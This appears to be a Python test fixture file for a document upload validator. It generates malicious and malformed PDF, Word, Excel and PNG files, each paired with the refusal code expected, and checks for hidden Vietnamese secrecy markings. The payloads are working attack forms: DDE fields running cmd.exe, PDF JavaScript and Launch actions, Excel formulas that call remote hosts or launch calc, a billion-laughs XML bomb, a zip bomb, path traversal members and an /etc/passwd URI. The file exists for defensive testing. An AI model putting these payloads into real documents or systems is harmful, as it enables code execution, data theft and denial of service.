"""Papers that must not enter, each as (name, bytes) with the code that refuses it. All are made here."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache, partial

import docx
import docx.enum.style
import pikepdf
from PIL import Image, PngImagePlugin

from tests.office_papers import sheet, slides
from tests.papers import many_pages_pdf, party_document_docx, party_document_pdf, state_letter_docx

MACRO_TYPE = "application/vnd.ms-office.vbaProject"
TYPES = "[Content_Types].xml"
DDE = ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" '
FETCHED_PICTURE = ' INCLUDEPICTURE "http://x.example/a.png" \\d '
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "'
    + "&lol;" * 10
    + '"><!ENTITY lol2 "'
    + "&lol1;" * 10
    + '">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    "<w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
).encode()


@dataclass(frozen=True)
class Bad:
    """A file that must be refused, and why."""

    name: str
    make: Callable[[], bytes]
    code: str


def with_members(
    data: bytes, members: dict[str, bytes], drop: tuple[str, ...] = (), method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A ZIP-based file with members added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            if name not in members and name not in drop:
                new.writestr(name, old.read(name))
        for name, content in members.items():
            new.writestr(name, content)
    return out.getvalue()


def member(data: bytes, name: str) -> bytes:
    """One member of a ZIP-based file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def members(data: bytes) -> list[str]:
    """The names of the members of a ZIP-based file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


def replaced(data: bytes, name: str, old: str, new: str) -> bytes:
    """A ZIP-based file with a text changed in one member."""
    content = member(data, name).decode()
    assert old in content
    return with_members(data, {name: content.replace(old, new, 1).encode()})


def changed_pdf(change: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    """A Party document as PDF after ``change``."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(party_document_pdf())) as pdf:
        change(pdf)
        pdf.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def related(kind: str, target: str, *, mode: str = "External") -> bytes:
    """A Word file with one more relationship of its document."""
    arrow = (
        f'<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return replaced(state_letter_docx(), "word/_rels/document.xml.rels", "</Relationships>", arrow)


def field(*parts: str) -> str:
    """The runs of a field; a part that begins with ``<`` is put in as it is, a field inside the field."""
    inside = "".join(part if part.startswith("<") else f"<w:instrText>{part}</w:instrText>" for part in parts)
    turn = '<w:fldChar w:fldCharType="{}"/>'
    return f"<w:r>{turn.format('begin')}{inside}{turn.format('end')}</w:r>"


def with_fields(*fields: str) -> bytes:
    """A Word file with a paragraph of fields."""
    return replaced(state_letter_docx(), "word/document.xml", "<w:sectPr", f"<w:p>{''.join(fields)}</w:p><w:sectPr")


def renamed_main(name: str, data: bytes) -> bytes:
    """A Word file whose main part is called otherwise, and is found by declaration and relationship as ever."""
    old, here = "word/document.xml", f"word/_rels/{name.rpartition('/')[2]}.rels"
    moved = with_members(
        data,
        {name: member(data, old), here: member(data, "word/_rels/document.xml.rels")},
        drop=(old, "word/_rels/document.xml.rels"),
    )
    return replaced(replaced(moved, TYPES, f"/{old}", f"/{name}"), "_rels/.rels", old, name)


def marked_main(name: str) -> bytes:
    """A Word file with a mark in a main part that is called otherwise."""
    return renamed_main(name, state_letter_docx(mark="TỐI MẬT"))


def moved_header(name: str) -> bytes:
    """A Word file with a mark, which counts in headers only, in a header under another name."""
    data = edited_docx(_mark_header)
    old = next(one for one in members(data) if one.startswith("word/header"))
    moved = with_members(data, {name: member(data, old)}, drop=(old,))
    arrows = "word/_rels/document.xml.rels"
    return replaced(replaced(moved, TYPES, f"/{old}", f"/{name}"), arrows, old[5:], name[5:])


def two_parts_in_one() -> bytes:
    """A Word file with two members whose names are one to a reader."""
    return with_members(state_letter_docx(), {"word/d%6Fcument.xml": b"<x/>"})


def words_that_are_bytes() -> bytes:
    """A Word file whose footnotes are no XML."""
    data = related("footnotes", "notes.bin", mode="Internal")
    return with_members(data, {"word/notes.bin": b"\x00\x01 TUY\xe1\xbb\x86T"})


def shouted_arrows() -> bytes:
    """A Word file whose template lies elsewhere, told by a member in capitals."""
    arrow = member(related("attachedTemplate", "http://x.example/t.dotm"), "word/_rels/document.xml.rels")
    return with_members(state_letter_docx(), {"word/_rels/settings.xml.RELS": arrow})


def macro_docx() -> bytes:
    """A Word file with a macro project, declared as an ordinary document."""
    types = member(state_letter_docx(), TYPES).decode()
    added = types.replace("<Default ", f'<Default Extension="bin" ContentType="{MACRO_TYPE}"/><Default ', 1)
    return with_members(state_letter_docx(), {TYPES: added.encode(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def docm_renamed() -> bytes:
    """A macro-enabled Word file under the name of an ordinary one."""
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return replaced(state_letter_docx(), TYPES, plain, "application/vnd.ms-word.document.macroEnabled.main+xml")


def encrypted_package() -> bytes:
    """The outside of a Word file with a password: an OLE container with one stream."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600


def zip_bomb_docx() -> bytes:
    """A Word file with a part that unpacks to 64 MB of nothing."""
    return with_members(state_letter_docx(), {"word/media/image1.png": b"\0" * (64 * 1024 * 1024)})


def nested_docx(depth: int) -> bytes:
    """Word files in Word files."""
    data = state_letter_docx()
    for _level in range(depth):
        data = with_members(state_letter_docx(), {"word/embeddings/inner.docx": data})
    return data


def quine_like_zip() -> bytes:
    """An archive in an archive under a foreign name."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("r.zip", b"PK")
    return with_members(state_letter_docx(), {"word/embeddings/r.zip": inner.getvalue()})


def header_png(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds almost nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def cyclic_xref_pdf() -> bytes:
    """A PDF whose cross-reference table names itself as the one before."""
    out = bytearray(b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n")
    out += b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    out += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
    start = len(out)
    offsets = [out.find(f"{number} 0 obj".encode()) for number in (1, 2, 3)]
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    out += f"trailer<</Size 4/Root 1 0 R/Prev {start}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def page_that_is_none() -> bytes:
    """A PDF whose tree of pages leads to something else than a page."""

    def change(pdf: pikepdf.Pdf) -> None:
        pages = pdf.Root.Pages
        pages.Kids.append(pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.FontDescriptor)))
        pages.Count = 2

    return changed_pdf(change)


def pdf_and_zip() -> bytes:
    """A PDF that is an archive as well."""
    out = io.BytesIO(party_document_pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("hidden.txt", "hidden")
    return out.getvalue()


def pdf_and_web_page() -> bytes:
    """A PDF that a browser may take for a page with a script."""
    head, _end, rest = party_document_pdf().partition(b"\n")
    return head + b"\n%<html><script>alert(1)</script></html>\n" + rest


def noted_pdf(text: str) -> bytes:
    """A PDF with a stamp whose words are not on the page."""

    def add(pdf: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Rect=[0, 0, 99, 99], Contents=pikepdf.String(text)
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(note)]))

    return changed_pdf(add)


def stamped_pdf(
    text: str, *, flags: int = 4, state: str = "", kind: str = "Stamp", rect: tuple[int, ...] = ()
) -> bytes:
    """A PDF with an annotation whose appearance shows words, and which says them nowhere else."""

    def add(pdf: pikepdf.Pdf) -> None:
        with pikepdf.open(io.BytesIO(party_document_pdf(paragraphs=[text]))) as other:
            form = pdf.copy_foreign(other.pages[0].as_form_xobject())
        look = pikepdf.Dictionary({f"/{state}": form}) if state else form
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name(f"/{kind}"),
            Rect=list(rect or (100, 500, 400, 760)),
            F=flags,
            AP=pikepdf.Dictionary(N=look),
        )
        note = pdf.make_indirect(note)
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([note]))
        if kind == "Widget":
            note["/FT"], note["/T"] = pikepdf.Name.Btn, pikepdf.String("a")
            pdf.Root["/AcroForm"] = pikepdf.Dictionary(Fields=pikepdf.Array([note]))

    return changed_pdf(add)


def _with_root(**entries: object) -> Callable[[], bytes]:
    def add(pdf: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value

    return lambda: changed_pdf(add)


def _action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)  # type: ignore[arg-type]


def embedded_pdf() -> bytes:
    """A PDF with a file attached to it."""

    def add(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["x.txt"] = b"inner"

    return changed_pdf(add)


def titled_pdf(title: str) -> bytes:
    """A PDF with a title among its properties."""

    def add(pdf: pikepdf.Pdf) -> None:
        pdf.docinfo["/Title"] = title

    return changed_pdf(add)


def edited_docx(edit: Callable[[docx.document.Document], None]) -> bytes:
    """A Word file after a change with python-docx."""
    document = docx.Document(io.BytesIO(party_document_docx()))
    edit(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _mark_header(document: docx.document.Document) -> None:
    document.sections[0].header.paragraphs[0].text = "Mật"


def _mark_footer(document: docx.document.Document) -> None:
    document.sections[0].footer.paragraphs[0].text = "TUYỆT MẬT – Bản số: 02"


def _mark_title(document: docx.document.Document) -> None:
    document.core_properties.keywords = "Tối mật"


def _mark_in_capitals(document: docx.document.Document) -> None:
    """Small letters that a style shows as capitals, far down in the body."""
    style = document.styles.add_style("Hoa", docx.enum.style.WD_STYLE_TYPE.PARAGRAPH)
    style.font.all_caps = True
    for number in range(30):
        document.add_paragraph(f"Mục {number} của báo cáo.")
    document.add_paragraph("mật", style="Hoa")


def _mark_split_over_runs(document: docx.document.Document) -> None:
    for number in range(30):
        document.add_paragraph(f"Mục {number} của báo cáo.")
    paragraph = document.add_paragraph()
    for letters in ("T", "Ố", "I M", "Ậ", "T"):
        paragraph.add_run(letters)


def _split_mark() -> bytes:
    return edited_docx(_mark_split_over_runs)


def formula_xlsx(formula: str, value: str = "1") -> bytes:
    """A workbook with a formula and the result that was kept of it."""
    cell = f'<c r="A9" t="str"><f>{formula}</f><v>{value}</v></c>'
    return replaced(sheet("a"), "xl/worksheets/sheet1.xml", "</sheetData>", f'<row r="9">{cell}</row></sheetData>')


def formatted_xlsx(code: str) -> bytes:
    """A workbook with a form of numbers of its own."""
    form = f'<numFmts count="1"><numFmt numFmtId="170" formatCode="{code}"/></numFmts>'
    part = "xl/styles.xml"
    plain = re.sub(rb"<numFmts[^>]*/>", b"", member(sheet("a"), part))
    return with_members(sheet("a"), {part: plain.replace(b"<fonts", form.encode() + b"<fonts", 1)})


def listed_docx(label: str) -> bytes:
    """A Word file with a list whose label is words."""

    def add(document: docx.document.Document) -> None:
        document.add_paragraph("Nội dung.", style="List Bullet")

    data = edited_docx(add)
    part = "word/numbering.xml"
    return with_members(
        data, {part: re.sub(rb'(<w:lvlText w:val=)"[^"]*"', rb'\1"%s"' % label.encode(), member(data, part))}
    )


def with_part(data: bytes, name: str, content: str) -> bytes:
    """An office file with one more part, given by what stands inside its root."""
    spaces = 'xmlns:a="urn:a" xmlns:c="urn:c" xmlns:p="urn:p"'
    return with_members(data, {name: f"<c:root {spaces}>{content}</c:root>".encode()})


def boxed_docx(text: str) -> bytes:
    """A Word file with a watermark drawn by WordArt, whose words are an attribute."""
    drawn = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<v:textpath string="{text}"/></v:shape></w:pict></w:r></w:p><w:sectPr'
    )
    return replaced(state_letter_docx(), "word/document.xml", "<w:sectPr", drawn)


def inscribed_png(text: str) -> bytes:
    """A picture with an inscription among its properties."""
    out, info = io.BytesIO(), PngImagePlugin.PngInfo()
    info.add_itxt("Title", text)
    Image.new("L", (60, 90), 255).save(out, "PNG", pnginfo=info)
    return out.getvalue()


@lru_cache(maxsize=1)
def plain_png() -> bytes:
    """A small honest picture."""
    out = io.BytesIO()
    Image.new("RGB", (120, 170), "white").save(out, "PNG")
    return out.getvalue()


def photo(kind: str) -> bytes:
    """A small honest picture of a kind that Pillow knows."""
    out = io.BytesIO()
    Image.new("RGB", (120, 170), "white").save(out, kind)
    return out.getvalue()


BAD = [
    Bad("rỗng.pdf", lambda: b"", "empty"),
    Bad("a.exe", lambda: b"MZ", "type_not_allowed"),
    Bad("không-đuôi", party_document_pdf, "type_not_allowed"),
    Bad("cụt.pdf", lambda: party_document_pdf()[:-2000], "truncated"),
    Bad("cụt.docx", lambda: state_letter_docx()[:-2000], "truncated"),
    Bad("cụt.jpg", lambda: photo("JPEG")[:-400], "damaged"),
    Bad("thêm-đuôi.png", lambda: plain_png() + b"MZ", "two_files_in_one"),
    Bad("cụt.png", lambda: plain_png()[:-30], "truncated"),
    Bad("đổi-đuôi.docx", party_document_pdf, "not_what_it_says"),
    Bad("đổi-đuôi.pdf", state_letter_docx, "not_what_it_says"),
    Bad("đổi-đuôi.xlsx", state_letter_docx, "not_what_it_says"),
    Bad("đổi-đuôi.jpg", plain_png, "not_what_it_says"),
    Bad("hai-trong-một.pdf", pdf_and_zip, "two_files_in_one"),
    Bad("trang-mạng.pdf", pdf_and_web_page, "two_files_in_one"),
    Bad("thêm-đuôi.pdf", lambda: party_document_pdf() + b"MZ\x90", "two_files_in_one"),
    Bad("thêm-đuôi.docx", lambda: state_letter_docx() + b"MZ\x90", "two_files_in_one"),
    Bad("trước-đầu.docx", lambda: b"PK\x03\x04#!/bin/sh\n" + state_letter_docx(), "two_files_in_one"),
    Bad("mất-ruột.docx", lambda: state_letter_docx()[:900] + state_letter_docx()[940:], "damaged"),
    Bad("vòng.pdf", cyclic_xref_pdf, "damaged"),
    Bad("không-phải-trang.pdf", page_that_is_none, "damaged"),
    Bad(
        "khóa.pdf", lambda: changed_pdf(lambda _: None, encryption=pikepdf.Encryption(owner="x", user="y")), "encrypted"
    ),
    Bad(
        "hạn-chế.pdf",
        lambda: changed_pdf(lambda _: None, encryption=pikepdf.Encryption(owner="x", user="")),
        "encrypted",
    ),
    Bad("khóa.docx", encrypted_package, "encrypted"),
    Bad("dài.pdf", lambda: many_pages_pdf(2001, "x"), "too_many_pages"),
    Bad("mã.pdf", _with_root(OpenAction=_action("JavaScript", JS="app.alert(1)")), "javascript"),
    Bad("mã-tên.pdf", _with_root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())), "javascript"),
    Bad("chạy.pdf", _with_root(OpenAction=_action("Launch", F="cmd.exe")), "launch"),
    Bad("tự-làm.pdf", _with_root(AA=pikepdf.Dictionary()), "automatic_action"),
    Bad("gửi-đi.pdf", _with_root(X=_action("SubmitForm")), "external_link"),
    Bad("mở-khác.pdf", _with_root(X=_action("GoToR", F="x.pdf")), "external_link"),
    Bad("chạy-khi-bấm.pdf", _with_root(X=_action("Launch", F="x")), "launch"),
    Bad("địa-chỉ-lạ.pdf", _with_root(X=_action("URI", URI="file:///etc/passwd")), "external_link"),
    Bad("đính-kèm.pdf", embedded_pdf, "embedded_file"),
    Bad("mẫu-động.pdf", _with_root(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("x"))), "dynamic_form"),
    Bad("macro.docx", macro_docx, "macro"),
    Bad("macro-đổi-đuôi.docx", docm_renamed, "macro"),
    Bad("mẫu-từ-xa.docx", lambda: related("attachedTemplate", "http://x.example/t.dotm"), "external_link"),
    Bad("ảnh-từ-xa.docx", lambda: related("image", "http://x.example/a.png"), "external_link"),
    Bad("liên-kết-tệp.docx", lambda: related("hyperlink", "file://server/share/x"), "external_link"),
    Bad("điều-khiển.docx", lambda: related("control", "activeX1.xml", mode="Internal"), "activex"),
    Bad("đối-tượng.docx", lambda: related("oleObject", "embeddings/oleObject1.bin", mode="Internal"), "ole"),
    Bad("đoạn-lạ.docx", lambda: related("aFChunk", "chunk.html", mode="Internal"), "embedded_file"),
    Bad("ra-ngoài.docx", lambda: related("image", "../../../etc/passwd", mode="Internal"), "unsafe_archive"),
    Bad("trường-dde.docx", lambda: with_fields(field(DDE)), "external_link"),
    Bad("trường-chèn.docx", lambda: with_fields(field(' INCLUDETEXT "http://x.example/a" ')), "external_link"),
    Bad("mẫu-chữ-hoa.docx", shouted_arrows, "external_link"),
    Bad("hai-tên.docx", two_parts_in_one, "unsafe_archive"),
    Bad("chú-thích-lạ.docx", words_that_are_bytes, "unsafe_archive"),
    Bad("trường-thứ-hai.docx", lambda: with_fields(field(" PAGE "), field(DDE)), "external_link"),
    Bad("trường-ảnh.docx", lambda: with_fields(field("PAGE"), field(FETCHED_PICTURE)), "external_link"),
    Bad("trường-trong-trường.docx", lambda: with_fields(field(" QUOTE ", field(DDE))), "external_link"),
    Bad("tên-trường-ghép.docx", lambda: with_fields(field(field("QUOTE 68 68 69"), " c:\\x.exe")), "external_link"),
    Bad("trường-chia-đôi.docx", lambda: with_fields(field(" DDE", "AUTO c:\\x.exe")), "external_link"),
    Bad(
        "trường-không-hết.docx",
        lambda: with_fields(field("PAGE"), field(DDE).replace("end", "unknown")),
        "external_link",
    ),
    Bad(
        "trường-đơn.docx",
        lambda: with_fields(field("PAGE"), f"<w:fldSimple w:instr='{DDE}'><w:r/></w:fldSimple>"),
        "external_link",
    ),
    Bad("bom.docx", zip_bomb_docx, "bomb"),
    Bad("lồng.docx", lambda: nested_docx(3), "nested_too_deep"),
    Bad("lồng-zip.docx", quine_like_zip, "type_not_allowed"),
    Bad("đường-dẫn.docx", lambda: with_members(state_letter_docx(), {"../../etc/x.xml": b"<x/>"}), "unsafe_archive"),
    Bad("tuyệt-đối.docx", lambda: with_members(state_letter_docx(), {"/etc/x.xml": b"<x/>"}), "unsafe_archive"),
    Bad("trùng-tên.docx", lambda: with_members(state_letter_docx(), {"WORD/document.xml": b"<x/>"}), "unsafe_archive"),
    Bad(
        "chương-trình.docx", lambda: with_members(state_letter_docx(), {"word/media/a.png": b"MZ\x90"}), "embedded_file"
    ),
    Bad("cười.docx", lambda: with_members(state_letter_docx(), {"word/document.xml": BILLION_LAUGHS}), "unsafe_xml"),
    Bad("hỏng-xml.docx", lambda: with_members(state_letter_docx(), {"word/document.xml": b"<w:p>"}), "damaged"),
    Bad("khổng-lồ.png", lambda: header_png(60_000, 60_000), "too_many_pixels"),
    Bad(
        "ảnh-khổng-lồ.docx",
        lambda: with_members(state_letter_docx(), {"word/media/a.png": header_png(60_000, 60_000)}),
        "too_many_pixels",
    ),
    Bad("TỐI MẬT ke hoach.pdf", party_document_pdf, "secrecy_mark"),
    Bad("dấu.pdf", lambda: party_document_pdf(mark="MẬT"), "secrecy_mark"),
    Bad("dấu-thưa.pdf", lambda: party_document_pdf(mark="T U Y Ệ T   M Ậ T"), "secrecy_mark"),
    Bad("dấu.docx", lambda: state_letter_docx(mark="TỐI MẬT"), "secrecy_mark"),
    Bad("đầu-trang.docx", lambda: edited_docx(_mark_header), "secrecy_mark"),
    Bad("chân-trang.docx", lambda: edited_docx(_mark_footer), "secrecy_mark"),
    *[
        Bad(f"phần-chính-{name}.docx", partial(marked_main, f"word/{name}"), "secrecy_mark")
        for name in ("document.txt", "document.bin", "document.svg", "mainstyles.xml", "theme1.xml", "header.xml")
    ],
    Bad("phần-chính-thuộc-tính.docx", lambda: renamed_main("docProps/a.xml", _split_mark()), "secrecy_mark"),
    Bad("đầu-trang-khác-tên.docx", lambda: moved_header("word/x.xml"), "secrecy_mark"),
    Bad("kiểu-chữ-hoa.docx", lambda: edited_docx(_mark_in_capitals), "secrecy_mark"),
    Bad("tách-chữ.docx", lambda: edited_docx(_mark_split_over_runs), "secrecy_mark"),
    Bad("nhãn-danh-sách.docx", lambda: listed_docx("TUYỆT MẬT"), "secrecy_mark"),
    Bad("kết-quả.xlsx", lambda: formula_xlsx('"TUYỆT "&amp;"MẬT"', "TUYỆT MẬT"), "secrecy_mark"),
    Bad("dạng-số.xlsx", lambda: formatted_xlsx("&quot;TUYỆT MẬT&quot;;General"), "secrecy_mark"),
    Bad(
        "biểu-đồ.docx",
        lambda: with_part(state_letter_docx(), "word/charts/chart1.xml", "<c:pt><c:v>TỐI MẬT</c:v></c:pt>"),
        "secrecy_mark",
    ),
    Bad(
        "tên-biểu-đồ.docx",
        lambda: with_part(state_letter_docx(), "word/charts/chart1.xml", "<a:p><a:r><a:t>MẬT</a:t></a:r></a:p>"),
        "secrecy_mark",
    ),
    Bad(
        "bình-luận.pptx",
        lambda: with_part(slides("a"), "ppt/comments/comment1.xml", "<p:cm><p:text>TUYỆT MẬT</p:text></p:cm>"),
        "secrecy_mark",
    ),
    Bad(
        "bình-luận.xlsx",
        lambda: with_part(sheet("a"), "xl/comments1.xml", "<text><r><t>TUYỆT</t></r><r><t> MẬT</t></r></text>"),
        "secrecy_mark",
    ),
    Bad("hỏi-mạng.xlsx", lambda: formula_xlsx('_xlfn.WEBSERVICE("http://x.example/?"&amp;A2)'), "external_link"),
    Bad("đọc-xml.xlsx", lambda: formula_xlsx('FILTERXML("http://x.example/","//a")'), "external_link"),
    Bad("hỏi-chương-trình.xlsx", lambda: formula_xlsx("cmd|'/c calc'!A0"), "external_link"),
    Bad("bảng-ở-xa.xlsx", lambda: formula_xlsx("'https://x.example/[a.xlsx]S'!A1"), "external_link"),
    Bad("thuộc-tính.docx", lambda: edited_docx(_mark_title), "secrecy_mark"),
    Bad("chữ-chìm.docx", lambda: boxed_docx("MẬT"), "secrecy_mark"),
    Bad("thuộc-tính.pdf", lambda: titled_pdf("TUYỆT MẬT"), "secrecy_mark"),
    Bad("con-dấu.pdf", lambda: noted_pdf("MẬT"), "secrecy_mark"),
    Bad("con-dấu-vẽ.pdf", lambda: stamped_pdf("TUYỆT MẬT"), "secrecy_mark"),
    Bad("con-dấu-ẩn.pdf", lambda: stamped_pdf("TỐI MẬT", flags=2), "secrecy_mark"),
    Bad("con-dấu-không-chỗ.pdf", lambda: stamped_pdf("TỐI MẬT", rect=(1, 1, 1, 1)), "secrecy_mark"),
    Bad("ô-mẫu.pdf", lambda: stamped_pdf("MẬT", kind="Widget", state="On"), "secrecy_mark"),
    Bad("giá-trị.pdf", _with_root(X=pikepdf.Dictionary(T="a", V="TỐI MẬT")), "secrecy_mark"),
    Bad("nhãn-nút.pdf", _with_root(X=pikepdf.Dictionary(MK=pikepdf.Dictionary(CA="Tối mật"))), "secrecy_mark"),
    Bad("ghi-chú-đậm.pdf", _with_root(X=pikepdf.Dictionary(RC="<p><b>TỐI MẬT</b></p>")), "secrecy_mark"),
    Bad("ảnh.png", lambda: inscribed_png("Tối mật"), "secrecy_mark"),
    Bad(
        "lồng-dấu.docx",
        lambda: with_members(state_letter_docx(), {"word/embeddings/a.docx": state_letter_docx(mark="MẬT")}),
        "secrecy_mark",
    ),
]
